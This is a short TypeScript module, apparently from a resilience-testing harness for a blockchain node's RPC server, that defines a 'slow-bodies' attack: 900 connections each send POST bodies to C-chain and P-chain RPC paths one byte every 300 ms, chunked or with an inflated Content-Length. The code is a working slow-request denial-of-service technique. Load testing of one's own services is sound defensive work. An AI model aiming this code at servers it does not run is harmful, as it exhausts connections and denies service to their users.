import type { Attack } from "../attack.ts";
import { headOf } from "../wire.ts";

const CONNECTIONS = 900;
const EVERY_MS = 300;

export const slowBodies: Attack = {
  name: "slow-bodies",
  does: "900 connections send their body byte by byte, with and without a length",
  targets: ["serve", "devnet", "follow"],
  async run(attacker) {
    await attacker.again(CONNECTIONS, async (turn) => {
      const socket = await attacker.connect();
      const isChunked = turn % 2 === 0;
      const path = turn % 3 === 0 ? "/ext/bc/C/rpc" : "/ext/bc/P";
      socket?.write(
        headOf("POST", path, ["Content-Type: application/json", isChunked ? "Transfer-Encoding: chunked" : "Content-Length: 900000"]),
      );
      while (socket !== undefined && !socket.destroyed && !attacker.isOver()) {
        socket.write(isChunked ? "1\r\n \r\n" : " ");
        await attacker.wait(EVERY_MS);
      }
    });
  },
};
